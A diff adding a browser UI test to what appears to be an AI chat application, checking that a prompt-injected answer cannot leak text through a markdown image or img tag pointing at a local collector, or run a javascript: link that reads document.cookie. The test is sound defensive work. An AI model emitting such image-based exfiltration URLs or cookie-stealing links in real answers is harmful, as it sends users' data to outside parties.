@@ -16,6 +16,8 @@ from pathlib import Path
 import pytest
 from playwright.async_api import Browser, Page, async_playwright, expect
 
+from fakes.brain import Brain
+from fakes.search_server import FakeSearch
 from tests.ui.conftest import ROOT, UiServer
 
 CHROMIUM = Path("/usr/bin/chromium")
@@ -109,3 +111,33 @@ async def test_research_approve_reload_and_reopen_from_history(
         await context.close()
     if os.environ.get("UPDATE_SCREENSHOT"):
         shutil.copy(tmp_path / "4-reopened-with-steps.png", ROOT / "docs" / "screenshot.png")
+
+
+async def test_answers_never_load_remote_images_or_run_links(
+    server: UiServer, browser: Browser, ui_brain: Brain
+) -> None:
+    """A prompt-injected answer tries to send text out through an image and a link."""
+    with FakeSearch() as collector:  # any loopback server that records requests
+        leak = f"{collector.url}/search?q=stolen-words&format=json"
+        ui_brain.answer = (
+            f"Here you go ![chart]({leak}) and [more](javascript:alert(document.cookie)) "
+            f'<img src="{leak}"> end.'
+        )
+        context = await browser.new_context()
+        page = await context.new_page()
+        page.set_default_timeout(TIMEOUT_MS)
+        requested: list[str] = []
+        page.on("request", lambda request: requested.append(request.url))
+        try:
+            await sign_in(page, server.url, "alice", "secret1")
+            await page.fill("#chat-input", "hello")
+            await page.click("#chat-submit")
+            await expect(page.get_by_text("[image: chart]")).to_be_visible()
+            await page.wait_for_timeout(1000)
+            links = await page.locator("a[href^='javascript']").count()
+        finally:
+            ui_brain.answer = "Here is my answer."
+            await context.close()
+        assert collector.requests == []
+        assert not [url for url in requested if url.startswith(collector.url)]
+        assert links == 0
